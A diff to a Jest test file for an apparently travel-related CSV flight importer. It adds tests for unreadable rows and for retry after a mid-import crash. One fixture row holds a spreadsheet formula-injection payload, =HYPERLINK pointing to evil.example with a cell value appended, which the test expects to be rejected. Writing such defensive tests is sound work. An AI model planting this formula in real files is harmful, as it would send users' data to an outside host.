@@ -84,10 +84,16 @@ describe('malformed files end in failed or partial with a clear reason, and keep
     { name: 'a 10 MB file of garbage (over the 5 MB limit)', content: garbage10MB, status: 'failed', reason: /10\.0 MB, larger than the 5\.0 MB limit/ },
     { name: 'a 10 MB file of garbage (limit raised to 20 MB: the parser rejects it)', content: garbage10MB, status: 'failed', reason: /unrecognised|format|line/i, env: { IMPORT_MAX_BYTES: String(20 * 1024 * 1024) } },
     {
+      name: 'a CSV where no row is a flight',
+      content: () => 'date,from,to\n2026-13-01,JFK,CDG\nxx,YYY,ZZZ\n',
+      status: 'failed',
+      reason: /^none of the 2 rows could be read as a flight; first problem: row 2: date '2026-13-01' is not a valid date$/,
+    },
+    {
       name: 'a CSV with a formula-injection cell',
       content: () => 'date,from,to,flight_number,notes\n2026-03-01,JFK,CDG,AF7,ok\n2026-03-10,=HYPERLINK("http://evil.example/?x="&A1;"click"),JFK,AF8,x\n',
       status: 'partial',
-      reason: /row 3/,
+      reason: /^row 3: From '=HYPERLINK.*' is not an airport code/,
     },
   ];
   test.each(cases)('$name', async ({ content, status, reason, env: vars }) => {
@@ -231,6 +237,27 @@ describe('a good file', () => {
     expect(env.repo.counts.writes).toBe(0);
     expect(env.repo.counts.reads).toBeLessThanOrEqual(2 * created.length);
     expect(env.repo.snapshot().users[UID]!.visaStatus).toEqual(statusBefore);
+  });
+
+  test('a retry after a crash mid-import counts the segments the first attempt wrote as imported', async () => {
+    await env.repo.createProfileIfAbsent(UID, profile());
+    const csv = 'date,from,to,flight_number\n2026-03-01,JFK,CDG,AF7\n2026-03-10,CDG,JFK,AF8\n2026-04-01,JFK,LHR,BA1\n';
+    const event = await upload(`users/${UID}/imports/r.csv`, csv);
+    // A first attempt that fails after writing its segments (the final recompute hits an outage).
+    const { setHandlerDeps } = await import('../../functions/src/triggers/deps');
+    const failing = Object.create(env.repo) as typeof env.repo;
+    failing.putEvaluation = async () => {
+      throw new Error('UNAVAILABLE: Firestore');
+    };
+    setHandlerDeps({ repo: failing, storage: env.storage, auth: env.auth, clock: () => env.clock.now, sleep: env.sleep });
+    await expect(wrapped(event)).rejects.toThrow(/UNAVAILABLE/);
+    expect(importDoc('r')!.status).toBe('processing');
+    expect(Object.keys(segmentsOf())).toHaveLength(3);
+    // Cloud Functions retries the same event.
+    setHandlerDeps({ repo: env.repo, storage: env.storage, auth: env.auth, clock: () => env.clock.now, sleep: env.sleep });
+    await wrapped(event);
+    expect(importDoc('r')).toMatchObject({ status: 'succeeded', counts: { rows: 3, flights: 3, imported: 3, duplicates: 0, skipped: 0 } });
+    expect(env.repo.snapshot().users[UID]!.visaStatus['schengen-90-180']).toBeDefined();
   });
 
   test('a segment typed by hand on the same dates between the same countries counts as a duplicate', async () => {
